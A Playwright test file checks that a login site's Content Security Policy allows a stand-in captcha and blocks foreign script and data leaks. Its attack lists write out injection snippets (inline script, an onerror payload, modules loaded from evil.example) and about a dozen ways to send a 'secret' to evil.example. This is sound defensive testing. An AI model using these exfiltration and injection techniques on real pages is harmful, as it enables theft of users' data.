import type { Page } from '@playwright/test';
import { captchaScript } from '#api/offline/stand-in-scripts.ts';
import { dist, expect, message, newestPin, signIn, test } from './fixtures.ts';
import { startNginx } from './start-nginx.ts';
import { recoverUsername } from './steps.ts';
import { startTestServer } from './test-server.ts';

// What the policy of deploy/ blocks. Almost every browser test runs under that policy, and fails if the page violates it
// (fixtures.ts). So the tests here show only what no other test does without a violation.

/**
 * Like Google's first captcha script, this one defines the captcha's object without its functions, and loads a second
 * script by a URL that is a plain string.
 */
const captchaLoader = `(function () {
  window.grecaptcha = { ready: function () {} };
  var script = document.createElement('script');
  script.src = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js' + new URL(document.currentScript.src).search;
  var first = document.getElementsByTagName('script')[0];
  first.parentNode.insertBefore(script, first);
})();`;

/** Like Google's second captcha script, this one creates its own Trusted Types policy. */
const captchaWidget = `window.trustedTypes && trustedTypes.createPolicy('goog#html', { createHTML: String });\n${captchaScript}`;

async function routeCaptcha(page: Page): Promise<void> {
  const script = (body: string) => ({ contentType: 'text/javascript', body });
  await page.route('https://www.google.com/recaptcha/**', (route) => route.fulfill(script(captchaLoader)));
  await page.route('https://www.gstatic.com/recaptcha/**', (route) => route.fulfill(script(captchaWidget)));
}

/** Records the violations of tests that provoke some. @returns a function that returns their directives so far. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    Object.assign(window, { violations: seen });
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test('a captcha that loads a second script causes no violation', async ({ page, server }) => {
  await routeCaptcha(page);
  await page.goto('/Loginapp/forgot-username');
  await recoverUsername(page);
  await page.getByRole('button', { name: /^Email PIN to/ }).click();
  await page.getByLabel('PIN', { exact: true }).fill(await newestPin(server));
  await page.getByRole('button', { name: 'Verify PIN' }).click();
  await expect(message(page, 'LOGIN_USERNAME_RETRIEVED')).toBeVisible();
});

/** The site by https, as in production. An https page may load from more hosts than an http page. */
const secureTest = test.extend({
  ignoreHTTPSErrors: true,
  server: async ({ hosting: _ }, use) => {
    const server = await startTestServer({ dist });
    const nginx = await startNginx({ dist, upstream: server.url, secure: true });
    await use({ ...server, url: nginx.url });
    await nginx.close();
    await server.close();
  },
});

secureTest('by https a login and its hand-off cause no violation', async ({ page, server }) => {
  await page.goto('/Login?sp=1');
  await signIn(page, 'merchant');
  await expect(page).toHaveURL(`${server.url}/console?sp=1`);
});

/** An attempt, and the directives that may block it. The default policy checks the host of a script, too. */
type Attack = readonly [name: string, run: () => void, directive?: RegExp];

/** Ways to execute foreign script. */
const scriptAttacks: readonly Attack[] = [
  [
    'inline script',
    () => {
      const script = document.createElement('script');
      script.append('window.attacked = true');
      document.body.append(script);
    },
    // It is not executed. It is not always reported, because the default policy does not check script text.
  ],
  [
    'a script of another host',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/a.js';
      document.body.append(script);
    },
    /^(require-trusted-types-for|script-src-elem)$/,
  ],
  [
    'a script of the captcha host that is not the captcha',
    () => {
      const script = document.createElement('script');
      script.src = 'https://www.google.com/recaptcha/about/js/main.min.js';
      document.body.append(script);
    },
    /^(require-trusted-types-for|script-src-elem)$/,
  ],
  [
    'an imported module of another host',
    () => void import('https://evil.example/a.js' as string).catch(() => undefined),
    /^script-src-elem$/,
  ],
  [
    'HTML from text',
    () => {
      document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
    },
    /^(require-trusted-types-for|script-src-elem)$/,
  ],
];

/** Ways to send what a merchant types to another host. */
const leaks: readonly Attack[] = [
  [
    'an image of another https host',
    () => {
      new Image().src = 'https://evil.example/?secret';
    },
    /^img-src$/,
  ],
  [
    'an image of another http host',
    () => {
      new Image().src = 'http://evil.example/?secret';
    },
    /^img-src$/,
  ],
  [
    'a background image',
    () => {
      document.body.style.backgroundImage = 'url(https://evil.example/?secret)';
    },
    /^img-src$/,
  ],
  [
    'a call to another host',
    () => void fetch('https://evil.example/?secret').catch(() => undefined),
    /^connect-src$/,
  ],
  ['a beacon', () => void navigator.sendBeacon('https://evil.example/', 'secret'), /^connect-src$/],
  ['a socket', () => void new WebSocket('wss://evil.example/?secret'), /^connect-src$/],
  ['an event stream', () => void new EventSource('https://evil.example/?secret'), /^connect-src$/],
  [
    'a frame',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/?secret';
      document.body.append(frame);
    },
    /^frame-src$/,
  ],
  [
    'a video',
    () => {
      const video = document.createElement('video');
      video.src = 'https://evil.example/?secret';
      document.body.append(video);
    },
    /^media-src$/,
  ],
  [
    'a font',
    () => void new FontFace('x', 'url(https://evil.example/?secret)').load().catch(() => undefined),
    /^font-src$/,
  ],
  [
    'a style sheet',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.example/?secret';
      document.head.append(link);
    },
    /^style-src-elem$/,
  ],
  [
    'a form to another host',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
    /^form-action$/,
  ],
];

for (const [site, siteTest] of [
  ['http', test],
  ['https', secureTest],
] as const) {
  siteTest.describe(`by ${site} the policy blocks`, () => {
    // These tests provoke violations.
    siteTest.use({ provoked: /violat|Trusted|blocked|net::ERR|Mixed Content/ });

    for (const [kind, attacks] of [
      ['foreign script', scriptAttacks],
      ['data sent to another host', leaks],
    ] as const) {
      siteTest(kind, async ({ page, server }) => {
        const requested: string[] = [];
        await page.route(/evil\.example|\/recaptcha\/about\//, (route) => {
          requested.push(route.request().url());
          return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = true' });
        });
        const violations = await recordViolations(page);
        await page.goto('/');
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
        for (const [, attack] of attacks) await page.evaluate(attack).catch(() => undefined);
        const patterns = attacks.flatMap(([, , directive]) => directive?.source ?? []);
        for (const pattern of new Set(patterns)) {
          const reported = async () =>
            (await violations()).filter((directive) => new RegExp(pattern).test(directive)).length;
          const attempts = patterns.filter((other) => other === pattern).length;
          await expect.poll(reported, { message: pattern }).toBeGreaterThanOrEqual(attempts);
        }
        expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
        expect(requested).toEqual([]);
        expect(page.url()).toBe(`${server.url}/`);
      });
    }

    siteTest('a frame around the page', async ({ page, server }) => {
      await page.route('https://evil.example/', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }),
      );
      await page.goto('https://evil.example/');
      await expect
        .poll(() => page.frames().map((frame) => frame.url()))
        .toContain('chrome-error://chromewebdata/');
      await expect(page.frameLocator('iframe').getByLabel('Username')).toHaveCount(0);
    });
  });
}

test.describe('a session whose redirect the policy blocks', () => {
  test.use({ provoked: /violat|blocked|form-action/i });

  test('leaves a page with an error, on which the next login succeeds', async ({ page, server }) => {
    server.script({
      method: 'POST',
      path: '/loginSvc/v1/sessionSTA',
      body: { redirectURL: 'https://console.elsewhere.example/', sessionToken: 'secret-token' },
    });
    await page.goto('/');
    await signIn(page, 'merchant');
    await expect(message(page, 'LOGIN_UNANTICIPATED_ERROR')).toBeVisible();
    await expect(page.locator('[inert]')).toHaveCount(0);
    await expect(page.getByLabel('Password', { exact: true })).toHaveValue('');
    await signIn(page, 'merchant');
    await expect(page).toHaveURL(`${server.url}/console`);
  });
});

test.describe('a brand whose logo is on a host that the file of hosts does not name', () => {
  test.use({ provoked: /violat/i });

  test('shows its title instead, and the logo is not requested', async ({ page, server }) => {
    const requested: string[] = [];
    await page.route('https://logos.example/**', (route) => {
      requested.push(route.request().url());
      return route.fulfill({
        contentType: 'image/svg+xml',
        body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
      });
    });
    server.script({
      method: 'GET',
      path: '/themesvc/v1/themes/shop',
      body: { id: 'shop', title: 'Shop', supportPhone: '1', logo: 'https://logos.example/a.svg' },
    });
    await page.goto('/?cobrand=shop');
    await expect(page.getByRole('banner')).toContainText('Shop');
    expect(requested).toEqual([]);
  });
});
